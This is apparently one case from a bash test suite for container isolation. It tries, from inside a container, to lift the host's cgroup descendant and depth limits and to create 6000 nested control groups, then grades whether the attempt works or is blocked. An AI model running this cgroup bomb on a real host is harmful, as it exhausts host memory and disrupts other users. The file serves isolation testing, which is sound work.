# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# Each costs the host memory, and all who walk through them time.
WHAT='control groups without end, wide and deep, after root inside has tried to lift the limit on them'
NEEDS_USERS='there root inside is the host'"'"'s root, to whom the files of limits belong'

setup() { bring bombdrive; }

attack() {
        echo max >/sys/fs/cgroup/cgroup.max.descendants
        echo max >/sys/fs/cgroup/cgroup.max.depth
        bombdrive cgroups 6000 20
        rmdir /sys/fs/cgroup/bomb*
}

# Without a limit, in a group of the host's own.
control() {
        local group i
        group=$(cgroup2_root)$(sed -n 's/^0:://p' /proc/self/cgroup)/endless
        mkdir "$group"
        for i in 0 1 2 3 4 5; do (cd "$group" && seq -f "bomb%g" "${i}000" "${i}999" | xargs mkdir); done
        [ "$(find "$group" -mindepth 1 -type d | wc -l)" -lt 6000 ] || works "6000 of them"
        find "$group" -depth -type d -delete
}

verdict() {
        local made
        made=$(sed -n 's/^made \([0-9]*\):.*/\1/p' "$OUT")
        if [ -z "$made" ] || [ "$made" = 0 ]; then
                absent "it can make none: $(head -n 1 "$OUT")"
        elif [ "$made" -lt 6000 ]; then
                blocked "no more than $made"
        else
                works "$made of them"
        fi
}
